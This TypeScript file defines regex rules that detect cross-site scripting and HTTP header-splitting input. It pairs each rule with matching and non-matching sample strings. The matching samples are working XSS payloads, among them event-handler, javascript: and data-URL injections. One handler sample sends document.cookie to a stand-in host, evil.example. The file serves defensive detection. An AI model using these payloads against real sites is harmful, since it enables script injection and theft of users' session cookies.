import type { ContentRule } from './rule';

/** Calls that show an attacker that his script runs, or that carry away what a page knows. */
const SINK = String.raw`(?:alert|prompt|confirm|eval|atob|import|fetch|execscript|settimeout|function)\s{0,3}(?:\(|${'`'}|&#|&lpar;|\.call|\?\.)|document\s{0,3}(?:\.\s{0,3}(?:cookie|domain|write|location)|\[)|(?:window|self|top|parent|this)\s{0,3}\[|string\.fromcharcode|xmlhttprequest|navigator\.sendbeacon|(?:window\.|top\.|self\.)?location\s{0,3}(?:=|\.(?:href|replace|assign))|javascript:|constructor\.constructor|&#(?:x|\d)`;

const pattern = (source: string): RegExp => new RegExp(source, 'gi');

export const XSS: readonly ContentRule[] = [
  {
    id: 'xss_script',
    kind: 'xss',
    hints: ['<script', '%3cscript', '&lt;script', '<scr<script'],
    // A page has scripts on lines of their own or behind other tags. Behind words, a quote, or alone with a call they are foreign.
    pattern: pattern(
      String.raw`(?<=(?:^|[^\s>${'`'}(])[ \t]{0,3})<script\b[^<>]{0,200}>(?=[^<]{0,500}<[\\/]{1,2}script)(?<!^<script\b[^<>]{0,200}>)|(?<=["'][^\S\n]{0,3}/?>)<script\b[^<>]{0,200}>|^\s{0,20}<script\b[^<>]{0,200}>(?=[^<]{0,60}?(?:${SINK}))|(?<=^|[^\s>${'`'}][ \t]{0,3})<script\s[^<>]{0,100}?src\s?=\s?(?:https?:)?//|%3cscript(?:%20[^\s<>]{0,100})?%3e|<scr<script>ipt>`,
    ),
    positives: [
      `hello «<script>»alert(1)</script>`,
      `«<script>»alert('x')</script>`,
      `">«<script>»x()</script>`,
      `Tim «<script src=//evil.example/x.js>»</script>`,
      `Tim «<script src=//»evil.example/x.js`,
      `q=«%3Cscript%3E»alert(1)%3C/script%3E`,
      `a«<scr<script>ipt>»b`,
    ],
    negatives: [
      'a <b>bold</b> word',
      'if (a <script_count) run()',
      '<head>\n  <script src="app.js" defer></script>\n</head>',
      '<div id="root"></div>\n<script>\n  start();\n</script>',
      'Put the `<script>` tag before `</body>`.',
      '<script setup lang="ts">\nimport { ref } from "vue";\nconst open = ref(false);\n</script>',
      '<body><script type="module" src="/main.js"></script></body>',
    ],
  },
  {
    id: 'xss_handler',
    kind: 'xss',
    hints: [' on', '/on', '"on', "'on", '>on'],
    // Handlers that run by themselves and call what proves or steals something. Clicks need a broken-out attribute.
    pattern: pattern(
      String.raw`<(?:svg|img|image|iframe|input|select|textarea|keygen|video|audio|source|details|math|object|embed|a|div|p|span|style|link|form|button|marquee|isindex|x|xss|custom)\b[^<>]{0,200}?[\s/"']on[a-z]{3,24}\s{0,3}=\s{0,3}["'${'`'}]?\s{0,3}[^\s<>]{0,40}?(?:${SINK})(?<!\bon(?:click|submit|change|input|dblclick)\s{0,3}=\s{0,3}["'][^<>]{0,80})|<body\b[^<>]{0,100}?[\s/]on[a-z]{3,24}\s{0,3}=\s{0,3}(?!["'\s])[^\s<>]{0,40}?(?:${SINK})|<svg/on[a-z]{3,24}\s?=|(?<!<[a-z][^<>\n]{0,200})["']\s{0,3}(?:/?>\s{0,3})?\bon[a-z]{3,24}\s{0,3}=\s{0,3}["']?\s{0,3}(?:${SINK})`,
    ),
    positives: [
      `«<img src=x onerror=alert(»1)>`,
      `«<svg/onload=alert(»1)>`,
      `«<svg/onload=»go()>`,
      `«<details open ontoggle=alert(»1)>`,
      `«<img src="x" onerror="fetch(»'//evil.example?'+document.cookie)">`,
      `x«" onmouseover="alert(»1)`,
      `«<iframe onload=location=»'//evil.example'>`,
      `«<body onload=alert(»1)>`,
      `«<input autofocus onfocus="eval(»name)">`,
    ],
    negatives: [
      '<a href="/home">home</a>',
      `<img src="a.png" onerror="this.src='fallback.png'">`,
      `<button onclick="save()">Save</button>`,
      `<button onclick="alert('Saved')">Save</button>`,
      `<body onload="init()">`,
      `<form onsubmit="return check(this)">`,
      `<input type="text" onchange="update(this.value)">`,
      `<Button onClick={() => setOpen(true)}>Open</Button>`,
      'The video on loading = slow',
    ],
  },
  {
    id: 'xss_url',
    kind: 'xss',
    hints: ['script:', 'script&colon', 'data:text/html', 'srcdoc', '&#', 'java&'],
    // `javascript:void(0)` and other ways to write a link that does nothing are ordinary.
    pattern: pattern(
      String.raw`(?:href|src|action|formaction|data|to|values)\s{0,3}=\s{0,3}["']?\s{0,3}(?:(?:java|vb)\s{0,2}script\s{0,2}(?::|&colon;|&#58;|&#x3a;)(?!\s{0,3}(?:void|;|"|'|#|return\b|history\.|window\.(?:print|close)|(?!alert|prompt|confirm|eval|fetch|atob|open|import)[\w$.]{1,60}\())|data:text/html|(?:&#x?[0-9a-f]{1,7};?){4})|(?<![\w"'=])javascript:(?://)?(?:%0a|%0d)?(?:alert|eval|prompt|confirm|fetch|document\.(?:cookie|write|location)|window\.location)\b|<iframe\b[^<>]{0,100}?srcdoc\s{0,3}=\s{0,3}["']?\s{0,3}(?:<|&lt;)(?:script|img|svg)`,
    ),
    positives: [
      `<a «href="javascript:»alert(1)">`,
      `<a «href="javascript:»//%0aalert(1)">`,
      `open «javascript:alert»(1)`,
      `<a «href=&#106;&#97;&#118;&#97;»&#115;cript:x>`,
      `<iframe «src="data:text/html»;base64,PHN2Zz4=">`,
      `<a «href='javascript&colon;»alert(1)'>`,
    ],
    negatives: [
      'JavaScript: the good parts',
      'src="data:image/png;base64,AAAA"',
      '<a href="javascript:void(0)">Open</a>',
      `<form action="javascript:;">`,
      `<a href="javascript:save(3)">Save</a>`,
      'language: javascript: eval is evil',
      'In JavaScript: alert the reader',
    ],
  },
  {
    id: 'header_split',
    kind: 'xss',
    hints: ['%0d%0a', '%0a'],
    pattern:
      /(?:%0d)?%0a(?:%20|%09)?(?:set-cookie|location|content-(?:length|type)|refresh|x-[a-z-]{2,30})(?::|%3a)|(?:%0d%0a){2}(?:<|%3c)/gi,
    positives: ['/go?to=x«%0d%0aSet-Cookie:»a=b', 'x«%0D%0A%0D%0A<»html>'],
    negatives: ['note=line%0d%0aanother line', 'text=Location%3A%20Bonn'],
  },
];
